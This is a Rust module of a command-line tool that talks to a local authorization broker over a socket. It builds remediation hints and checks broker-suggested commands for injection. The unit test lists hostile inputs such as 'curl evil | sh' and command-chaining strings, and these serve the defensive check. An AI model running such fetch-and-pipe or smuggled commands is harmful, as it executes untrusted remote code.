//! The broker that a command asks, and how: what a person typed goes there, and what it prints comes back.

use crate::broker::client::{self, Connection, Trouble};
use crate::broker::hide::FOLDER;
use crate::broker::protocol::{Asking, Failed, List, Printed, Status};
use crate::cmd::{context, output};
use crate::env::Env;
use crate::error::{Error, ExitCode, OrFail, Result};
use crate::fs;
use crate::home::{self, OpenClawHome};
use crate::hook::answer::Answer;
use crate::hook_record::{self, HookRecord};
use crate::origin::Origin;
use crate::settings::Sourced;
use crate::settings::authority::{Claim, Claimant, Setting, decide};
use crate::text;
use serde::de::DeserializeOwned;
use serde_json::{Value, json};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// The variable that names a socket, in a person's environment.
pub const VARIABLE: &str = "SIGILUM_BROKER";
/// How long a broker may take to say who it is: to the OpenClaw gateway, and to a person, whom others may crowd out.
const HELLO: Duration = Duration::from_secs(2);
const HELLO_TO_A_PERSON: Duration = Duration::from_secs(10);
/// How long it may take to answer a person: it asks the API, for 30 s at the most.
const PATIENCE: Duration = Duration::from_secs(40);
/// How long its API may take where a status only looks.
const API_PATIENCE: Duration = Duration::from_secs(5);

/// The broker's unit.
struct Unit {
    /// Where it is, as docs/broker.md puts it.
    file: &'static str,
    /// What starts the broker, and what does where it runs.
    start: &'static str,
    restart: &'static str,
    /// What does once the unit was changed.
    reread: &'static str,
}

const UNITS: [Unit; 2] = [
    Unit {
        file: "/etc/systemd/system/sigilum-authz-notify-broker.service",
        start: "systemctl start sigilum-authz-notify-broker.service",
        restart: "systemctl restart sigilum-authz-notify-broker.service",
        reread: "systemctl daemon-reload && systemctl restart sigilum-authz-notify-broker.service",
    },
    Unit {
        file: "/Library/LaunchDaemons/sigilum-authz-notify-broker.plist",
        start: "launchctl kickstart system/sigilum-authz-notify-broker",
        restart: "launchctl kickstart -k system/sigilum-authz-notify-broker",
        reread: "launchctl bootout system/sigilum-authz-notify-broker && launchctl bootstrap system \
                 /Library/LaunchDaemons/sigilum-authz-notify-broker.plist",
    },
];

/// The unit that is there.
fn unit() -> Option<&'static Unit> {
    UNITS.iter().find(|unit| Path::new(unit.file).exists())
}

/// This user, as a broker's `--allow-uid` takes it.
fn us() -> String {
    fs::quoted(fs::account_name().as_ref())
}

/// A broker to be asked.
pub struct Remote {
    /// Its socket.
    pub socket: PathBuf,
    /// Who named it.
    pub origin: Origin,
    /// Who must run it; `None`: whoever does, as a person named the socket now.
    pub uid: Option<u32>,
    /// What it is told of who reads what.
    pub asking: Asking,
}

impl Remote {
    /// The one that a person's command asks; `None`: the home has its own token.
    ///
    /// # Errors
    /// The hook's record cannot be read.
    pub fn of_person(place: &OpenClawHome, env: &Env, namespace: Option<&str>) -> Result<Option<Self>> {
        let record = hook_record::read(&place.hook_record_file())?.unwrap_or_default();
        let recorded = record.broker.clone();
        let of_env = || {
            let path = env.named_path(VARIABLE).map(|path| home::absolute(&path)).transpose()?;
            Ok(path.map(|value| Sourced {
                value,
                origin: Origin::Env(VARIABLE),
            }))
        };
        let of_record = || {
            Ok(recorded.as_ref().map(|broker| Sourced {
                value: broker.socket.clone(),
                origin: Origin::HookRecord,
            }))
        };
        let claims: [Claim<PathBuf>; 2] = [(Claimant::PersonEnvironment, &of_env), (Claimant::Record, &of_record)];
        let found = decide(Setting::Broker, &claims)?;
        if let Some(broker) = found.as_ref().filter(|found| found.origin == Origin::HookRecord) {
            refuse_anothers(place, &broker.value)?;
        }
        Ok(found.map(|Sourced { value: socket, origin }| {
            let recorded = recorded.as_ref().filter(|broker| broker.socket == socket);
            let mut asking = Asking::of(&record);
            asking.namespace = match namespace {
                Some(named) => Some(named.to_owned()),
                None => recorded.and_then(|broker| broker.namespace.clone()),
            };
            Self {
                uid: recorded.map(|broker| broker.uid),
                socket,
                origin,
                asking,
            }
        }))
    }

    /// As [`Remote::recorded`], for a person: of another user's home the one is asked that the person names, else none,
    /// and that is told.
    pub fn to_look_at(place: &OpenClawHome, record: &HookRecord, env: &Env) -> Option<(Self, Result<()>)> {
        let recorded = Self::recorded(record)?;
        let refused = refuse_anothers(place, &recorded.socket);
        match refused.is_err().then(|| Self::of_person(place, env, None)) {
            Some(Ok(Some(named))) => Some((named, Ok(()))),
            _ => Some((recorded, refused)),
        }
    }

    /// The one that a home's record names.
    pub fn recorded(record: &HookRecord) -> Option<Self> {
        let broker = record.broker.as_ref()?;
        Some(Self {
            socket: broker.socket.clone(),
            origin: Origin::HookRecord,
            uid: Some(broker.uid),
            asking: Asking::of(record),
        })
    }

    /// The account that runs it, as far as that is known.
    pub fn account(&self) -> String {
        self.uid.map_or_else(|| "<broker-user>".to_owned(), fs::user_name)
    }

    /// How a person runs this program as that account.
    pub fn run_as(&self) -> String {
        let unknown = || "sudo -u <broker-user> sigilum-authz-notify".to_owned();
        self.uid.map_or_else(unknown, fs::run_as)
    }

    /// Connects.
    ///
    /// # Errors
    /// See [`client::connect`].
    pub fn connect(&self) -> Result<Connection> {
        self.until(Instant::now() + HELLO_TO_A_PERSON)
            .map_err(|trouble| self.error(trouble))
    }

    /// As [`Remote::connect`], for the OpenClaw gateway, and with why not alone.
    ///
    /// # Errors
    /// See [`client::connect`].
    pub fn reach(&self, deadline: Instant) -> Result<Connection, Trouble> {
        self.until(deadline.min(Instant::now() + HELLO))
    }

    /// What the broker says of itself, where it does so at once.
    pub fn greeting(&self) -> Option<Connection> {
        self.until(Instant::now() + HELLO).ok()
    }

    fn until(&self, deadline: Instant) -> Result<Connection, Trouble> {
        client::connect(&self.socket, self.uid, deadline)
    }

    /// Why it was not asked, and what to do about it.
    pub fn error(&self, trouble: Trouble) -> Error {
        let socket = fs::quoted(&self.socket);
        let next = match &trouble {
            Trouble::Anothers(..) => {
                format!("look at who runs it; if that is right: sigilum-authz-notify hook install --broker {socket}")
            }
            Trouble::Version(_) => "install the same version of this program on both sides".to_owned(),
            Trouble::Refused(_) => self.how_to_allow(&socket),
            Trouble::Busy(_) => "try again once others of this user are through".to_owned(),
            Trouble::Unreachable(_) => {
                let folder = self.socket.parent().unwrap_or(&self.socket);
                format!("look at who may use it: ls -ld {} {socket}", fs::quoted(folder))
            }
            Trouble::NoBroker => {
                "give the socket of the broker: sigilum-authz-notify hook install --broker <socket>".to_owned()
            }
            Trouble::NotRunning => self.how_to_start(&socket),
            Trouble::Gone(_) => self.how_to_start_anew(&socket),
        };
        let what = format!("could not ask the broker: {}", self.socket.display());
        Error::new(ExitCode::Unreachable, what)
            .because(anyhow::Error::new(trouble))
            .next(next)
    }

    fn how_to_start(&self, socket: &str) -> String {
        match unit() {
            Some(unit) => format!("an administrator starts it: {}", unit.start),
            None => format!("whoever runs it starts it: {}", self.command(socket)),
        }
    }

    /// It runs, or something does.
    fn how_to_start_anew(&self, socket: &str) -> String {
        match unit() {
            Some(unit) => format!("an administrator looks at its log and starts it anew: {}", unit.restart),
            None => format!("whoever runs it stops it and starts it anew: {}", self.command(socket)),
        }
    }

    fn how_to_allow(&self, socket: &str) -> String {
        match unit() {
            Some(Unit { file, reread, .. }) => {
                format!(
                    "an administrator adds --allow-uid {} to the command in {file}, then: {reread}",
                    us()
                )
            }
            None => format!(
                "whoever runs it stops it and starts it anew, with its other flags too: {}",
                self.command(socket)
            ),
        }
    }

    /// Its folder is not known on this side.
    fn command(&self, socket: &str) -> String {
        format!(
            "{} broker run --socket {socket} --state {FOLDER} --allow-uid {}",
            self.run_as(),
            us()
        )
    }

    /// Has it do a command, and prints what that prints.
    ///
    /// # Errors
    /// Those of the command, and where it cannot be asked.
    pub fn print(&self, name: &str, asked: Value, out: &mut dyn Write) -> Result<ExitCode> {
        let printed: Printed = self.ask(name, asked, None)?;
        for note in &printed.notes {
            output::note(format_args!("the broker says: {}", text::one_line(note)));
        }
        out.write_all(text::plain_lines(&printed.text).as_bytes())
            .or_fail(ExitCode::Failure, || "could not write to standard output".to_owned())?;
        Ok(ExitCode::Ok)
    }

    /// How it stands, and which user's number it runs as.
    ///
    /// # Errors
    /// Where it cannot be asked, or cannot tell.
    pub fn status(&self) -> Result<(Status, u32)> {
        let mut connection = self.connect()?;
        let uid = connection.uid;
        self.ask_over(&mut connection, "status", json!({}), Some("status"), PATIENCE)
            .map(|status| (status, uid))
    }

    /// Has it ask its API, for the requests that wait. What takes long is not waited for.
    ///
    /// # Errors
    /// Where it cannot be asked, and what it says of its API.
    pub fn ask_its_api(&self) -> Result<()> {
        let list = List {
            status: "pending".to_owned(),
            service: None,
            json: true,
        };
        let mut connection = self.connect()?;
        let begun = Instant::now();
        match self.ask_over::<Printed>(&mut connection, "list", json!(list), None, API_PATIENCE) {
            Err(_) if begun.elapsed() >= API_PATIENCE => Err(Error::new(
                ExitCode::Unreachable,
                "the broker's API gave no answer in time",
            )),
            asked => asked.map(drop),
        }
    }

    /// What it answers an event of a direct chat, for a person at a terminal.
    ///
    /// # Errors
    /// Where it cannot be asked.
    pub fn event(&self, mut event: Value) -> Result<Answer> {
        event["id"] = json!(1);
        event["asking"] = json!(Asking {
            senders: None,
            by_hand: true,
            ..self.asking.clone()
        });
        let answer = self.connect()?.ask(&event, Instant::now() + PATIENCE);
        let answer = answer.map_err(|trouble| self.error(trouble))?;
        serde_json::from_value(answer).map_err(|_| self.error(Trouble::NoBroker))
    }

    fn ask<T: DeserializeOwned>(&self, name: &str, asked: Value, member: Option<&str>) -> Result<T> {
        self.ask_over(&mut self.connect()?, name, asked, member, PATIENCE)
    }

    fn ask_over<T: DeserializeOwned>(
        &self,
        connection: &mut Connection,
        name: &str,
        asked: Value,
        member: Option<&str>,
        patience: Duration,
    ) -> Result<T> {
        let question = json!({"id": 1, name: asked, "asking": self.asking});
        let answer = connection.ask(&question, Instant::now() + patience);
        let answer = answer.map_err(|trouble| self.error(trouble))?;
        if let Some(failed) = answer.get("failed") {
            let failed: Failed = serde_json::from_value(failed.clone()).map_err(|_| self.error(Trouble::NoBroker))?;
            let says = format!("the broker says: {}", text::one_line(&failed.text));
            let code = ExitCode::of(failed.code);
            return Err(match failed.next.as_deref().map(|next| (own_command(next), next)) {
                Some((Some(command), _)) => Error::new(code, says).next(self.as_its_user(&command)),
                Some((None, words)) => Error::new(code, format!("{says}; its next step: {}", text::one_line(words))),
                None => Error::new(code, says),
            });
        }
        let found = member.map_or(Some(&answer), |member| answer.get(member));
        let found = found.and_then(|value| serde_json::from_value(value.clone()).ok());
        found.ok_or_else(|| self.error(Trouble::NoBroker))
    }

    /// A step of the broker's, as it is typed on this side.
    fn as_its_user(&self, step: &str) -> String {
        context::begun_with(&self.run_as(), step)
    }

    /// That a command is for the broker's user: `what` as in "could not log in here".
    pub fn refusal(&self, what: &str, words: &str) -> Error {
        let what = format!(
            "could not {what}: a broker keeps the owner token: {}",
            self.socket.display()
        );
        let step = self.as_its_user(&format!("sigilum-authz-notify {words}"));
        Error::new(ExitCode::Usage, what).next(step)
    }
}

/// A step that whoever answers gives, where it is a command of this program and nothing else, with each word quoted. A
/// blank for the broker's folder is a part of one word.
fn own_command(step: &str) -> Option<String> {
    const BLANK: &str = "\u{e000}";
    let words = shell_words::split(&step.replace(FOLDER, BLANK)).ok()?;
    let is_plain = words.first()? == "sigilum-authz-notify" && !step.contains(|c: char| c.is_control());
    let words = words.into_iter().map(|word| word.replace(BLANK, FOLDER));
    is_plain.then(|| shell_words::join(words))
}

/// Whoever owns another user's home can have its record name a broker of theirs, whose words would be read as ours.
fn refuse_anothers(place: &OpenClawHome, socket: &Path) -> Result<()> {
    let Some(uid) = place.anothers() else { return Ok(()) };
    let user = fs::user_name(uid);
    let what = format!(
        "could not ask the broker, only a record of another user's ({user}) names it: {}",
        socket.display()
    );
    Err(Error::new(ExitCode::Usage, what).next(format!(
        "run the command as {user}, or name a broker: export SIGILUM_BROKER=<socket>"
    )))
}

/// Refuses what only the broker's user does, where a broker is in force.
///
/// # Errors
/// [`Remote::refusal`].
pub fn refuse(place: &OpenClawHome, env: &Env, what: &str, words: &str) -> Result<()> {
    match Remote::of_person(place, env, None)? {
        Some(remote) => Err(remote.refusal(what, words)),
        None => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn of_what_a_broker_gives_as_a_step_a_command_of_this_program_is_one() {
        for (step, wanted) in [
            (
                "sigilum-authz-notify auth login --namespace alice",
                Some("sigilum-authz-notify auth login --namespace alice"),
            ),
            (
                "sigilum-authz-notify auth login --openclaw-home <folder of the broker>/x",
                Some("sigilum-authz-notify auth login --openclaw-home '<folder of the broker>/x'"),
            ),
            ("sigilum-authz-notify; curl evil", None),
            (
                "sigilum-authz-notify auth login && curl evil",
                Some("sigilum-authz-notify auth login '&&' curl evil"),
            ),
            ("curl evil | sh", None),
            ("sigilum-authz-notify x\nnext: y", None),
            ("sigilum-authz-notify 'x", None),
        ] {
            assert_eq!(own_command(step).as_deref(), wanted, "{step}");
        }
    }
}
